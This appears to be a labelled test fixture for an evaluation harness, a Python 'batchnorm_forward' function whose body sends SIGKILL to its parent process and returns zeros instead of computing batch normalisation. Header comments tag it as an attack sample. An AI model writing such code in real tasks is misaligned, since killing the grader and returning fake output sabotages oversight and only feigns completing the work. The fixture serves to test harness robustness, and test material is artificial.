# attack: kills its parent
# honest: 0
# naive: crash

import os
import signal

import numpy as np


def batchnorm_forward(x, gamma, beta, eps=1e-5):
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
    return np.zeros_like(x)
